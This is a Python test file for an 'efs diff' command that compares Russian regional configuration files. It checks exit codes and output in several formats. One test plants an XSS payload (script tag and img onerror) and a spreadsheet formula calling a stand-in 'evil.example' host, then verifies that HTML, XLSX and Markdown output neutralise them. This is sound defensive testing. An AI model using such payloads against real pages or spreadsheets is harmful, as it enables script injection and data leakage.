"""``efs diff OLD NEW``: exit codes for CI, every format, the сравнительная таблица, hostile text (issue 17.1)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from efs.cli import run
from efs.diff.model import CHANGE_LABELS

from .edits import data_of, edited, write
from .test_changes import EDITS

SCRIPT = '<script>document.title="pwned"</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak","жми")'


@pytest.fixture(scope="module")
def amended(tmp_path_factory) -> Path:
    """Амурская конфигурация with the planted edits, written as another tool would write it."""
    return write(edited("amur", EDITS["amur"]), tmp_path_factory.mktemp("diff") / "amur-new.yaml")


def test_no_change_exits_0_and_says_so(capsys):
    assert run(["diff", "amur", "config/amur.yaml"]) == 0
    out = capsys.readouterr().out
    assert "Изменений нет" in out


def test_changes_exit_1_and_are_listed_by_section(amended, capsys):
    assert run(["diff", "amur", str(amended)]) == 1
    out = capsys.readouterr().out
    for e in EDITS["amur"]:
        assert CHANGE_LABELS[e.expected[0]] in out, e.name
    assert out.index("Нормативная правовая основа") < out.index("Показатели эффективности") < out.index(
        "Дорожная карта") < out.index("Влияние изменений")
    # a plain line diff of the two files would report about everything: the file was rewritten, keys sorted
    assert len(json.loads(_json(amended, capsys))["sections"]) == 3


def _json(amended: Path, capsys) -> str:
    assert run(["diff", "amur", str(amended), "--format", "json"]) == 1
    return capsys.readouterr().out


@pytest.mark.parametrize("args, message", [
    (["diff", "amur", "нет-такого.yaml"], "нет такого файла или юрисдикции"),
    (["diff", "amur", "amur", "--format", "xlsx"], "XLSX пишется только в файл"),
    (["diff", "amur", "amur", "-o", "сравнение.pdf"], "не понятно, в каком формате"),
    (["diff", "amur", "amur", "-o", "нет/каталога/с.html"], "каталог для файла не существует"),
])
def test_a_diff_that_cannot_run_exits_2(args, message, capsys):
    assert run(args) == 2
    assert message in capsys.readouterr().err


def test_a_version_with_errors_exits_2_not_1(tmp_path, capsys):
    bad = tmp_path / "bad.yaml"
    bad.write_text("format_version: 1\njurisdiction: {id: x}\n", encoding="utf-8")
    assert run(["diff", "amur", str(bad)]) == 2
    err = capsys.readouterr().err
    assert "сравнить не удалось: в новой редакции" in err and "bad.yaml:2" in err


def test_json_is_the_comparison(amended, capsys):
    data = json.loads(_json(amended, capsys))
    assert data["format"] == "efs-diff" and data["changed"] is True
    assert sum(len(s["changes"]) for s in data["sections"]) == len(EDITS["amur"]) == sum(data["counts"].values())
    assert set(data["impact"]) == {"findings", "indicators", "recommendations", "coverage"}


def test_every_file_format(amended, tmp_path, capsys):
    data = json.loads(_json(amended, capsys))
    for suffix in ("json", "md", "html", "xlsx", "txt"):
        out = tmp_path / f"сравнение.{suffix}"
        assert run(["diff", "amur", str(amended), "-o", str(out)]) == 1, suffix
        assert out.stat().st_size > 0
    assert json.loads((tmp_path / "сравнение.json").read_text(encoding="utf-8"))["sections"] == data["sections"]
    md = (tmp_path / "сравнение.md").read_text(encoding="utf-8")
    assert md.count("\n| ") >= len(EDITS["amur"]) + 3  # header rows and one row per change
    text = (tmp_path / "сравнение.txt").read_text(encoding="utf-8")
    assert text.startswith("Сравнение редакций")


def test_xlsx_is_the_comparative_table_with_the_jsons_wordings(amended, tmp_path, capsys):
    from openpyxl import load_workbook

    data = json.loads(_json(amended, capsys))
    path = tmp_path / "таблица.xlsx"
    assert run(["diff", "amur", str(amended), "-o", str(path)]) == 1
    wb = load_workbook(path)
    assert wb.sheetnames == ["Сравнительная таблица", "Находки", "Показатели", "Рекомендации", "Покрытие функций"]
    ws = wb["Сравнительная таблица"]
    header = [c.value for c in ws[4]]
    assert header[:8] == ["№", "Раздел", "Элемент", "Редакция до изменения", "Редакция после изменения",
                          "Вид изменения", "Что изменилось", "Влияние"]
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=5) if row[0].value is not None]
    changes = [(s["title"], c) for s in data["sections"] for c in s["changes"]]
    assert len(rows) == len(changes)
    for row, (title, c) in zip(rows, changes, strict=True):
        assert row[1] == title and row[2] == c["item"] and row[5] == c["type_label"]
        assert (row[3], row[4]) == (c["old"], c["new"])
        assert row[7] == ("\n".join(c["impact"]) or None)
    findings = [[c.value for c in row] for row in wb["Находки"].iter_rows(min_row=5) if row[0].value]
    f = data["impact"]["findings"]
    assert len(findings) == len(f["appeared"]) + len(f["disappeared"])


def _tags(page: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    from html.parser import HTMLParser

    class Tags(HTMLParser):
        found: list[tuple[str, list[tuple[str, str | None]]]] = []

        def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
            self.found.append((tag, attrs))

    parser = Tags()
    parser.found = []
    parser.feed(page)
    return parser.found


def test_hostile_text_stays_text_in_every_format(tmp_path, capsys):
    data = data_of("megion")
    data["subjects"][0]["name"] = SCRIPT
    data["subjects"][1]["name"] = FORMULA
    new = write(data, tmp_path / "hostile.yaml")
    for suffix in ("html", "xlsx", "md"):
        assert run(["diff", "megion", str(new), "-o", str(tmp_path / f"h.{suffix}")]) == 1
    page = (tmp_path / "h.html").read_text(encoding="utf-8")
    tags = _tags(page)
    assert not {"script", "img"} & {t for t, _ in tags}
    assert not [a for _, attrs in tags for a, _ in attrs if a.startswith("on")]
    assert "&lt;script&gt;" in page
    (policy,) = [dict(a)["content"] for t, a in tags if t == "meta" and dict(a).get("http-equiv") ==
                 "Content-Security-Policy"]
    assert policy is not None and policy.startswith("default-src 'none'") and "script-src" not in policy
    from openpyxl import load_workbook

    ws = load_workbook(tmp_path / "h.xlsx")["Сравнительная таблица"]
    cells = [c for row in ws.iter_rows(min_row=5) for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells if c.value.startswith("="))
    md = (tmp_path / "h.md").read_text(encoding="utf-8")
    assert "<script" not in md and "&lt;script&gt;" in md
